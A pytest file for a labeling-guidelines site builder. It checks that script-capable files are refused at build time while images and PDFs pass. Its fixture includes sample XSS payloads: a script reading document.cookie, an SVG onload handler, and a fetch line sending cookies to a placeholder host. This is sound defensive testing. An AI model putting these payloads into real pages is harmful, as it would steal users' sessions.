"""Files of guidelines/ that MkDocs would copy into the site as they are: only images and
PDF files may be, since an .html, .js or .svg file served from the site's own origin runs
script in every labeler's browser (error[file-type-refused]); `build` refuses them."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.core.helpers import no_crash
from tests.core.sample import check as check_cli
from tests.core.sample import labelbook, write_repo

HOSTILE = {
    "guidelines/help.html": "<script>alert(document.cookie)</script>",
    "guidelines/hate-speech/diagram.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "guidelines/tools/steal.js": "fetch('https://example.invalid/?'+document.cookie)",
    "guidelines/style.css": "body{background:url(https://example.invalid/track)}",
    "guidelines/notes.txt": "plain text is not a page either",
    "guidelines/Makefile": "all:\n\ttrue\n",
}
ALLOWED = ["guidelines/img/flow.png", "guidelines/hate-speech/chart.JPG", "guidelines/handbook.pdf", "guidelines/img/x.webp"]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = write_repo(tmp_path / "repo")
    for path, text in HOSTILE.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")
    for path in ALLOWED:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(32))
    return root


def test_every_file_that_could_run_script_is_a_located_error_and_images_pass(repo: Path) -> None:
    run = check_cli(repo)
    no_crash(run)
    assert run.returncode == 1
    refused = sorted(f.path for f in run.findings if f.code == "file-type-refused")
    assert refused == sorted(HOSTILE)
    assert all((f.line, f.col, f.severity) == (1, 1, "error") for f in run.findings if f.code == "file-type-refused")
    assert not [f for f in run.findings if f.path in ALLOWED]


def test_build_refuses_and_publishes_nothing(repo: Path, tmp_path: Path) -> None:
    site = tmp_path / "out" / "site"
    run = labelbook("build", "-q", "-C", repo, "-d", site)
    no_crash(run)
    assert run.returncode == 1
    assert "guidelines/help.html:1:1: error[file-type-refused]" in run.stdout + run.stderr
    assert not site.exists()
    for path in HOSTILE:
        (repo / path).unlink()
    run = labelbook("build", "-q", "-C", repo, "-d", site)
    assert run.returncode == 0, run.stderr
    assert (site / "img" / "flow.png").is_file() and (site / "handbook.pdf").is_file()
